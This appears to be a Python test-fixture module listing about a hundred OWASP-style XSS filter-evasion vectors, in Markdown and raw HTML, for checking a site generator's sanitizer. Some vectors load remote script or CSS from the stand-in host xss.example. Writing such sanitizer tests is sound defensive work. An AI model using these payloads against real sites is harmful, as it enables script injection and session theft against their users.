"""XSS filter-evasion vectors (after the OWASP XSS Filter Evasion Cheat Sheet), in Markdown and in
raw HTML: links, images, reference-style links, autolinks, attributes (raw and attr_list), SVG and
MathML; and a fixture project with one page per vector.

Each vector is ``(id, markdown, at)``: ``at`` is the line of ``markdown`` (0 = its first) where
``explainer check`` must locate it. tests/test_xss.py asserts on the check and on the built HTML of
every vector; tests/e2e/test_xss_browser.py loads some of the built pages in Chromium.
"""

from __future__ import annotations

import html
import unicodedata
from pathlib import Path

from conftest import copy_fixture

B64_SCRIPT = "PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="  # <script>alert(1)</script>
B64_SVG = ("PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAwMC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=")  # <svg … onload=…/>
DEC = "&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;&#97;&#108;&#101;&#114;&#116;&#40;&#49;&#41;"
DEC_LONG = "".join(f"&#{ord(c):07d}" for c in "javascript:alert(1)")
HEX = "".join(f"&#x{ord(c):X}" for c in "javascript:alert(1)")
EVIL = "http://xss.example"  # never reached: the browser tests route every other host to nowhere

VECTORS: list[tuple[str, str, int]] = [
    # Markdown inline links
    ("md-link", "[x](javascript:alert(1))", 0),
    ("md-link-mixed-case", "[x](JaVaScRiPt:alert(1))", 0),
    ("md-link-leading-space", "[x](   javascript:alert(1))", 0),
    ("md-link-angle", "[x](<javascript:alert(1)>)", 0),
    ("md-link-title", '[x](javascript:alert(1) "title")', 0),
    ("md-link-dec-entity", "[x](&#106;avascript:alert(1))", 0),
    ("md-link-hex-entity", "[x](&#x6A;avascript:alert(1))", 0),
    ("md-link-all-dec", f"[x]({DEC})", 0),
    ("md-link-long-dec-no-semicolon", f"[x]({DEC_LONG})", 0),
    ("md-link-hex-no-semicolon", f"[x]({HEX})", 0),
    ("md-link-colon-entity", "[x](javascript&colon;alert(1))", 0),
    ("md-link-colon-hex", "[x](javascript&#x3A;alert(1))", 0),
    ("md-link-tab-entity", "[x](java&Tab;script:alert(1))", 0),
    ("md-link-newline-entity", "[x](java&NewLine;script:alert(1))", 0),
    ("md-link-encoded-tab", "[x](jav&#x09;ascript:alert(1))", 0),
    ("md-link-encoded-cr", "[x](jav&#x0D;ascript:alert(1))", 0),
    ("md-link-meta-char", "[x](&#14;javascript:alert(1))", 0),
    ("md-link-vbscript", "[x](vbscript:msgbox(1))", 0),
    ("md-link-data-html", f"[x](data:text/html;base64,{B64_SCRIPT})", 0),
    # Markdown images
    ("md-image", "![x](javascript:alert(1))", 0),
    ("md-image-dec-entity", "![x](&#106;avascript:alert(1))", 0),
    ("md-image-tab-entity", "![x](java&Tab;script:alert(1))", 0),
    ("md-image-data-svg", f"![x](data:image/svg+xml;base64,{B64_SVG})", 0),
    ("md-image-vbscript", "![x](VBScript:msgbox(1))", 0),
    # Reference-style links and images
    ("md-ref", "[x][r]\n\n[r]: javascript:alert(1)", 2),
    ("md-ref-dec-entity", "[x][r]\n\n[r]: &#106;avascript:alert(1)", 2),
    ("md-ref-colon-entity", "[x][r]\n\n[r]: javascript&colon;alert(1)", 2),
    ("md-ref-angle", "[x][r]\n\n[r]: <javascript:alert(1)>", 2),
    ("md-ref-collapsed", "[r][]\n\n[r]: JAVASCRIPT:alert(1)", 2),
    ("md-ref-shortcut", "[r]\n\n[r]: vbscript:msgbox(1)", 2),
    ("md-ref-image", f"![x][r]\n\n[r]: data:image/svg+xml;base64,{B64_SVG}", 2),
    ("md-ref-title-tab", '[x][r]\n\n[r]: java&Tab;script:alert(1) "t"', 2),
    # Autolinks
    ("autolink", "<javascript:alert(1)>", 0),
    ("autolink-upper", "<JAVASCRIPT:alert(1)>", 0),
    ("autolink-vbscript", "<vbscript:msgbox(1)>", 0),
    ("autolink-data", f"<data:text/html;base64,{B64_SCRIPT}>", 0),
    # Raw HTML: script
    ("script", "<script>alert(1)</script>", 0),
    ("script-src", f"<SCRIPT SRC={EVIL}/xss.js></SCRIPT>", 0),
    ("script-non-alpha", f'<SCRIPT/XSS SRC="{EVIL}/xss.js"></SCRIPT>', 0),
    ("script-extra-brackets", '<<SCRIPT>alert("XSS");//\\<</SCRIPT>', 0),
    ("script-no-closing", f"<SCRIPT SRC={EVIL}/xss.js?< B >", 0),
    ("script-in-malformed-img", '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>', 0),
    # Raw HTML: images and links
    ("img-onerror", "<img src=x onerror=alert(1)>", 0),
    ("img-js-src", "<IMG SRC=\"javascript:alert('XSS');\">", 0),
    ("img-no-quotes", "<IMG SRC=javascript:alert('XSS')>", 0),
    ("img-grave-accent", "<IMG SRC=`javascript:alert(\"RSnake says, 'XSS'\")`>", 0),
    ("img-fromcharcode", "<IMG SRC=javascript:alert(String.fromCharCode(88,83,83))>", 0),
    ("img-onmouseover", "<IMG SRC=# onmouseover=\"alert('xxs')\">", 0),
    ("img-dec-entities", f"<IMG SRC={DEC}>", 0),
    ("img-long-dec", f"<IMG SRC={DEC_LONG}>", 0),
    ("img-hex", f"<IMG SRC={HEX}>", 0),
    ("img-embedded-tab", "<IMG SRC=\"jav\tascript:alert('XSS');\">", 0),
    ("img-encoded-tab", "<IMG SRC=\"jav&#x09;ascript:alert('XSS');\">", 0),
    ("img-encoded-newline", "<IMG SRC=\"jav&#x0A;ascript:alert('XSS');\">", 0),
    ("img-meta-chars", "<IMG SRC=\" &#14;  javascript:alert('XSS');\">", 0),
    ("a-colon-entity", '<a href="javascript&colon;alert(1)">x</a>', 0),
    ("a-tab-entity", '<a href="java&Tab;script:alert(1)">x</a>', 0),
    ("a-newline-colon", '<a href="java&NewLine;script&colon;alert(1)">x</a>', 0),
    ("a-onclick", '<a href="#" onclick="alert(1)">x</a>', 0),
    ("a-data-html", f'<a href="data:text/html;base64,{B64_SCRIPT}">x</a>', 0),
    # Raw HTML: other elements and attributes
    ("body-onload", "<BODY ONLOAD=alert('XSS')>", 0),
    ("body-onload-non-alpha", "<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert(\"XSS\")>", 0),
    ("iframe-js", "<IFRAME SRC=\"javascript:alert('XSS');\"></IFRAME>", 0),
    ("iframe-srcdoc", '<iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>', 0),
    ("frameset", "<FRAMESET><FRAME SRC=\"javascript:alert('XSS');\"></FRAMESET>", 0),
    ("input-image", "<INPUT TYPE=\"IMAGE\" SRC=\"javascript:alert('XSS');\">", 0),
    ("bgsound", "<BGSOUND SRC=\"javascript:alert('XSS');\">", 0),
    ("link-stylesheet", f'<LINK REL="stylesheet" HREF="{EVIL}/xss.css">', 0),
    ("style-import", f"<STYLE>@import'{EVIL}/xss.css';</STYLE>", 0),
    ("meta-refresh", "<META HTTP-EQUIV=\"refresh\" CONTENT=\"0;url=javascript:alert('XSS');\">", 0),
    ("meta-refresh-data", f'<META HTTP-EQUIV="refresh" CONTENT="0;url=data:text/html base64,{B64_SCRIPT}">', 0),
    ("table-background", "<TABLE BACKGROUND=\"javascript:alert('XSS')\"><tr><td>x</td></tr></TABLE>", 0),
    ("div-style-url", "<DIV STYLE=\"background-image: url(javascript:alert('XSS'))\">x</DIV>", 0),
    ("div-style-expression", "<DIV STYLE=\"width: expression(alert('XSS'));\">x</DIV>", 0),
    ("object-data", f'<OBJECT TYPE="text/x-scriptlet" DATA="{EVIL}/scriptlet.html"></OBJECT>', 0),
    ("embed-svg", f'<EMBED SRC="data:image/svg+xml;base64,{B64_SVG}" type="image/svg+xml">', 0),
    ("base-href", "<BASE HREF=\"javascript:alert('XSS');//\">", 0),
    ("form-action", '<form action="javascript:alert(1)"><button>x</button></form>', 0),
    ("button-formaction", '<button formaction="javascript:alert(1)">x</button>', 0),
    ("details-ontoggle", "<details open ontoggle=alert(1)><summary>x</summary></details>", 0),
    ("video-source-onerror", '<video><source onerror="alert(1)"></video>', 0),
    ("abbr-autofocus", '<abbr title="x" onfocus="alert(1)" tabindex="0" autofocus>y</abbr>', 0),
    ("noscript-mutation", '<noscript><p title="</noscript><img src=x onerror=alert(1)>">', 0),
    ("comment-breakout", '<!--<img src="--><img src=x onerror=alert(1)//">', 0),
    ("heading-img-onerror", "## A <img src=x onerror=alert(1)> b", 0),  # also in the table of contents
    ("md-in-html-handler", '<div markdown onmouseover="alert(1)">\n*text*\n</div>', 0),
    # attr_list: attributes written in Markdown
    ("attr-list-handler", '*x*{: onclick="alert(1)" }', 0),
    ("attr-list-heading", '## Heading {: onmouseover="alert(1)" }', 0),
    ("attr-list-href", '[x](https://example.org/){: href="javascript:alert(1)" }', 0),
    ("attr-list-href-entity", '[x](https://example.org/){: href="&#106;avascript:alert(1)" }', 0),
    ("attr-list-style", "Text\n{: style=\"background:url(javascript:alert(1))\" }", 1),
    # SVG
    ("svg-onload", "<svg onload=alert(1)>", 0),
    ("svg-script", "<svg><script>alert(1)</script></svg>", 0),
    ("svg-a-xlink", '<svg><a xlink:href="javascript:alert(1)"><text x="20" y="20">x</text></a></svg>', 0),
    ("svg-animate-onbegin", "<svg><animate onbegin=alert(1) attributeName=x dur=1s>", 0),
    ("svg-set-href", '<svg><a><set attributeName="href" to="javascript:alert(1)"/><text y="20">x</text></a></svg>', 0),
    ("svg-foreign-object", '<svg><foreignObject><iframe srcdoc="&lt;script&gt;alert(1)&lt;/script&gt;"></iframe>'
                           "</foreignObject></svg>", 0),
    ("svg-style-import", f"<svg><style>@import url({EVIL}/x.css);</style></svg>", 0),
    ("svg-image-onerror", "<svg><image href=x onerror=alert(1) /></svg>", 0),
    # MathML
    ("math-href", '<math href="javascript:alert(1)">CLICKME</math>', 0),
    ("math-a", '<math><mtext><a href="javascript:alert(1)">x</a></mtext></math>', 0),
    ("math-maction-xlink", '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>', 0),
    ("math-mglyph-mutation", "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>", 0),
]

# Loaded in Chromium (tests/e2e/test_xss_browser.py): ones that fire on load, ones a click fires,
# and ones that would fetch from another host.
BROWSER_SUBSET = ("script", "img-onerror", "svg-onload", "details-ontoggle", "iframe-js", "iframe-srcdoc",
                  "meta-refresh", "base-href", "script-src", "style-import", "object-data", "md-link-dec-entity",
                  "md-link-colon-entity", "md-link-tab-entity", "md-ref-dec-entity", "a-colon-entity",
                  "a-newline-colon", "attr-list-href-entity", "math-href", "noscript-mutation", "comment-breakout",
                  "abbr-autofocus", "md-image-data-svg", "heading-img-onerror")

LANG = "de"  # the two-language fixture's source language, published at /
FIRST_LINE = 7  # the line of each page where its vector starts
SAFE = ("http", "https", "mailto")


def page_rel(vector_id: str) -> str:
    return f"xss-{vector_id}.md"


def page_text(vector_id: str, markdown: str) -> str:
    page = f"---\ntitle: Vektor {vector_id}\n---\n\n# Vektor {{#vector}}\n\n{markdown}\n\nDanach.\n"
    assert page.split("\n")[FIRST_LINE - 1] == markdown.split("\n")[0]
    return page


def xss_project(target: Path) -> Path:
    """The two-language fixture with one page per vector in its source language."""
    root = copy_fixture("two-languages", target)
    for vector_id, markdown, _ in VECTORS:
        (root / "docs" / LANG / page_rel(vector_id)).write_text(page_text(vector_id, markdown), encoding="utf-8")
    return root


def built_page(site: Path, vector_id: str) -> Path:
    return site / f"xss-{vector_id}" / "index.html"


def scheme_of(url: str) -> str | None:
    """A URL's scheme as a browser reads it, written independently of the generator's own code:
    entities decoded, whitespace and control characters dropped, lower case."""
    url = html.unescape(html.unescape(url))
    url = "".join(ch for ch in url if not ch.isspace() and unicodedata.category(ch)[0] != "C")
    head, colon, _ = url.partition(":")
    return head.lower() if colon and head[:1].isalpha() and all(c.isalnum() or c in "+.-" for c in head) else None
